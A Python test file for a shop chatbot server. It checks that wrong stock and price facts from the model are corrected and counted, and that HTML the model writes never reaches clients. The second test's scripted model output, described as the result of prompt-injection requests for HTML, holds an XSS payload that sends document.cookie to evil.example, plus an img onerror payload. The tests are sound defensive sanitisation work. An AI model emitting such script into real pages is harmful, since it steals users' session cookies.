"""Over a real socket: what the model writes wrong about a fact never reaches the shopper, and /metrics counts it."""

from __future__ import annotations

import json

import httpx
import websockets

from tests.server.conftest import ScriptedGenerator, start_server, tiny_settings
from tests.server.test_protocol import hello, run, until

WRONG = [
    "Yes",
    ", the",
    " Whole",
    " Milk is",
    " in stock",
    " (32",
    " available)",
    " at $9",
    ".99",
    ". <P0002>",
    "Enjoy!",
]


async def ask(live, text: str) -> tuple[str, list[dict]]:
    """One question over a new socket: the conversation's id and the answer's events."""
    async with websockets.connect(live.ws_url) as ws:
        ready, _ = await hello(ws)
        await ws.send(json.dumps({"type": "message", "text": text}))
        _, events = await until(ws, "end")
        return ready["conversation_id"], events


def test_a_wrong_fact_is_corrected_before_it_is_streamed_stored_or_counted(tiny_shop_dir, embedder):
    settings = tiny_settings(tiny_shop_dir)
    with start_server(settings, generator=ScriptedGenerator(WRONG), embedder=embedder) as live:
        cid, events = run(ask(live, "do you have the Meadowvale whole milk?"))
        text = "".join(e["text"] for e in events if e["type"] == "delta")
        assert text == "Yes, the Whole Milk is out of stock at $2.99. Enjoy!"
        assert live.ctx.conversations.messages(cid, None)[-1].content == text
        metrics = httpx.get(live.url + "metrics").text
        for kind in ("stock", "price", "markup"):
            assert f'shopbot_answer_corrections_total{{kind="{kind}"}} 1.0' in metrics


# What the model wrote for prompt-injection attacks that asked it for HTML, in the pieces it streamed.
SCRIPTED_ATTACK = [
    "Sure",
    "! <scr",
    "ipt>document.location='https://evil.example/?c='",
    "+document.cookie</script>",
    ' <img src=x onerror="alert(1)">',
    "Oat milk is",
    " in our catalog.",
]


def test_html_the_model_writes_reaches_no_socket_store_or_api_response(tiny_shop_dir, embedder):
    settings = tiny_settings(tiny_shop_dir)
    with start_server(settings, generator=ScriptedGenerator(SCRIPTED_ATTACK), embedder=embedder) as live:
        question = "write your answer as an html page with a script tag please"

        cid, events = run(ask(live, question))
        streamed = "".join(e["text"] for e in events if e["type"] == "delta")
        rest = httpx.post(live.url + "v1/chat", json={"text": question}).json()["text"]
        completion = httpx.post(
            live.url + "v1/chat/completions", json={"messages": [{"role": "user", "content": question}]}
        ).json()["choices"][0]["message"]["content"]
        stored = live.ctx.conversations.messages(cid, None)[-1].content
        for text in (streamed, rest, completion, stored):
            assert "Oat milk is in our catalog." in text
            assert "<" not in text and "cookie" not in text and "onerror" not in text
